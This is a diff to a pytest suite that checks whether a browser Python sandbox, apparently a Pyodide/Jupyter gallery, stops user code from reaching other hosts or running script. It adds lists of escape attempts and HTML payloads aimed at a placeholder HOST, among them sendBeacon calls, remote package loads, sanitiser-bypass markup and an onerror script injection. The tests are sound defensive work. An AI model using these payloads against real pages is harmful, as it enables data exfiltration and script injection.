@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import threading
+from collections import Counter
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
@@ -137,7 +138,7 @@ def test_number_controls_take_no_markup(opened, kind):
 
 @pytest.fixture(scope="module")
 def stranger() -> Iterator[tuple[str, list[str]]]:
-    """Return another host's address and the list of what it was asked for."""
+    """Return another host's address and the list of what it was asked for, bare connections too."""
     asked: list[str] = []
 
     class Handler(BaseHTTPRequestHandler):
@@ -151,6 +152,10 @@ def stranger() -> Iterator[tuple[str, list[str]]]:
 
         do_POST = do_OPTIONS = do_HEAD = do_GET
 
+        def setup(self) -> None:
+            asked.append("connection")
+            super().setup()
+
         def log_message(self, format: str, *arguments: object) -> None:
             pass
 
@@ -161,6 +166,7 @@ def stranger() -> Iterator[tuple[str, list[str]]]:
     server.shutdown()
     thread.join()
     server.server_close()
+    assert asked == []  # nor anything late
 
 
 # What a curious reader may try; each ends in an error, at once or in the promise that it gives.
@@ -178,6 +184,13 @@ TRIES = {
     "WebTransport": "await js.WebTransport.new('https://HOST/transport').ready",
     "import": "from pyodide.code import run_js\nawait run_js('import(\"http://HOST/module.js\")')",
     "importScripts": "js.importScripts('http://HOST/script.js')",
+    "import of data": "from pyodide.code import run_js\nawait run_js('import(\"data:text/javascript,0\")')",
+    "import of a blob": "from pyodide.code import run_js\nawait run_js("
+    '\'import(URL.createObjectURL(new Blob(["0"], {type: "text/javascript"})))\')',
+    "loadPackage": "import pyodide_js\nawait pyodide_js.loadPackage('http://HOST/x.whl')\nimport x",
+    "sendBeacon": "real.navigator.sendBeacon('http://HOST/beacon', '')",
+    "FontFace": "await js.FontFace.new('x', 'url(http://HOST/font)').load()",
+    "WebSocketStream": "await js.WebSocketStream.new('ws://HOST/stream').opened",
     "eval": "js.eval('1')",
     "Function": "js.Function.new('return 1')()",
     "timer of text": "assert js.setTimeout('1', 0) and False",
@@ -196,6 +209,7 @@ TRIES = {
     "file system": "real.webkitRequestFileSystemSync(0, 1)",
     "localStorage": "real.localStorage.getItem('theme')",
     "document": "real.document.cookie",
+    "service worker": "await real.navigator.serviceWorker.register('/_static/doctools.js')",
     "window": "real.window.location",
     "cookies": "await real.cookieStore.getAll()",
 }
@@ -250,33 +264,89 @@ def test_edited_code_reaches_no_other_host_and_no_store(visit, address, stranger
     assert [url for url in foreign if host not in url] == []
 
 
-@pytest.mark.parametrize(
-    "markup",
-    [
-        "<img src='http://HOST/img'>",
-        "<link rel=stylesheet href='http://HOST/css'>",
-        "<iframe src='http://HOST/frame'></iframe>",
-        "<video src='http://HOST/video'></video>",
-        "<object data='http://HOST/object'></object>",
-        "<style>@import 'http://HOST/import';</style>",
-        "<div style='background:url(http://HOST/background)'>x</div>",
-        "<svg><image href='http://HOST/image' /></svg>",
-        "<script src='http://HOST/script'></script>",
-        "<base href='http://HOST/'><img src='base'>",
-        "<meta http-equiv='refresh' content='0;url=http://HOST/refresh'>",
-    ],
+# What the page itself says that it did not load, by the part of the policy that forbids it.
+REFUSED = """() => {
+    window.refused = [];
+    addEventListener('securitypolicyviolation', e => window.refused.push(e.blockedURI), true);
+}"""
+MARKUP = {
+    "img": "<img src='http://HOST/img'>",
+    "srcset": "<img srcset='http://HOST/srcset 2x, http://HOST/srcset 1x'>",
+    "picture": "<picture><source srcset='http://HOST/picture'><img></picture>",
+    "video": "<video src='http://HOST/video'></video>",
+    "poster": "<video poster='http://HOST/poster'></video>",
+    "audio": "<audio src='http://HOST/audio'></audio>",
+    "object": "<object data='http://HOST/object'></object>",
+    "embed": "<embed src='http://HOST/embed'>",
+    "input": "<input type=image src='http://HOST/input'>",
+    "import": "<style>@import 'http://HOST/import';</style>",
+    "background": "<div style='background:url(http://HOST/background)'>x</div>",
+    "image": "<svg width=9 height=9><image href='http://HOST/image' width=9 height=9 /></svg>",
+}
+FRAMES = ("object", "embed")  # of which the page is told the host only
+LINKS = ("stylesheet", "icon", "prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch")
+UNHEARD = (  # for whose refusal the page gives no sign
+    "<script src='http://HOST/script'></script>",
+    "<base href='http://HOST/'>",
+    "<iframe src='http://HOST/frame'></iframe>",
+    "<iframe srcdoc='<img src=http://HOST/inner>'></iframe>",
+    "<meta http-equiv=refresh content='0;url=http://HOST/refresh'>",
+    *(f"<link rel={rel} as=image href='http://HOST/{rel}'>" for rel in LINKS),
+    "<!--><LINK\trel=preconnect href=http://HOST>-->",
+    "<svg><style><link rel=preconnect href=http://HOST></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><b title='--><link rel=preconnect href=//HOST>'>",
 )
-@pytest.mark.parametrize("way", ["IPython.display.HTML", "ipywidgets.HTML"])
-def test_markup_that_edited_code_shows_asks_no_other_host(opened, stranger, markup, way):
+# Ways for markup from Python into the page.
+SHOWN = {
+    "display": "from IPython.display import HTML\nHTML(MARKUP)",
+    "HTML": "import ipywidgets\nipywidgets.HTML(MARKUP)",
+    "changed": "import ipywidgets\nh = ipywidgets.HTML('x')\ndisplay(h)\nh.value = MARKUP",
+    "HTMLMath": "import ipywidgets\nipywidgets.HTMLMath(MARKUP)",
+    "Output": "import ipywidgets\nfrom IPython.display import HTML\no = ipywidgets.Output()\ndisplay(o)\n"
+    "with o: display(HTML(MARKUP))",
+}
+
+
+@pytest.mark.parametrize("way", SHOWN)
+def test_markup_that_edited_code_shows_asks_no_other_host(opened, stranger, address, way):
     host, asked = stranger
     page = opened(GALLERY)
     where = page.url
-    module, name = way.rsplit(".", 1)
-    html = markup.replace("HOST", host)
-    python(page, f"from {module} import {name} as H\nH({html!r})")
-    page.wait_for_timeout(150)
+    page.evaluate(REFUSED)
+    own = f"<img class=own alt=own src='{address}_static/logo.svg'>"
+    html = "".join(MARKUP.values()) + own + "".join(UNHEARD)
+    html = html.replace("HOST/", f"{host}/{way}/").replace("HOST", host)
+    python(page, SHOWN[way].replace("MARKUP", repr(html)))
+    expect(page.locator("img.own")).to_have_js_property("complete", True)
+    assert page.locator("img.own").evaluate("image => image.naturalWidth") > 0
+    host = f"http://{host}"
+    wanted = Counter(host if name in FRAMES else f"{host}/{way}/{name}" for name in MARKUP)
+    for _ in range(100):
+        if wanted <= Counter(page.evaluate("refused")):
+            break
+        page.wait_for_timeout(50)
+    assert wanted - Counter(page.evaluate("refused")) == Counter()
     assert asked == []
     assert page.url == where
+
+
+def test_script_and_foreign_widget_that_edited_code_shows_do_not_run(opened, stranger):
+    host, asked = stranger
+    page = opened(GALLERY)
+    python(
+        page,
+        "from IPython.display import HTML, Javascript, display\n"
+        "import ipywidgets, traitlets\n"
+        f"display(Javascript({RUN!r}), HTML('<script>{RUN}</script><img src=x onerror={RUN}>'))\n"
+        "class Foreign(ipywidgets.DOMWidget):\n"
+        f"    _model_module = _view_module = traitlets.Unicode('http://{host}/w.js').tag(sync=True)\n"
+        "    _model_name = _view_name = traitlets.Unicode('W').tag(sync=True)\n"
+        "Foreign()",
+    )
+    alive(page)
+    assert python(page, "6 * 7") == "42"
+    assert page.evaluate("window.pwned") is None
+    assert asked == []
 
 
 # the policy
